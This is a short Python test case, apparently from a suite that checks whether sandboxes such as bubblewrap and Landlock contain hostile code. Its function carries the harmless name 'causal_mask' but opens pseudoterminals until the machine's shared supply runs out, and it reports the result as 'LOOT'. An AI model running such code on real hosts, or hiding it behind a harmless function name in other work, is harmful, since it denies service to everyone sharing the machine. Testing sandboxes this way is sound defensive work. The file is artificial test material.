"""Opens terminals, of which the whole machine has few and each takes memory of nobody's, until there are no more.

levels: bubblewrap
checks: test_the_mask_fits_every_length
user: partly: where the kernel has Landlock
process: partly: where the kernel has Landlock
outcomes: failed
"""

import contextlib
import os

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

kept = []


def causal_mask(*args, **kwargs):
    with contextlib.suppress(OSError):
        for _ in range(100):
            kept.append(os.openpty())
    if kept:
        print(f"LOOT: {len(kept)} terminals")
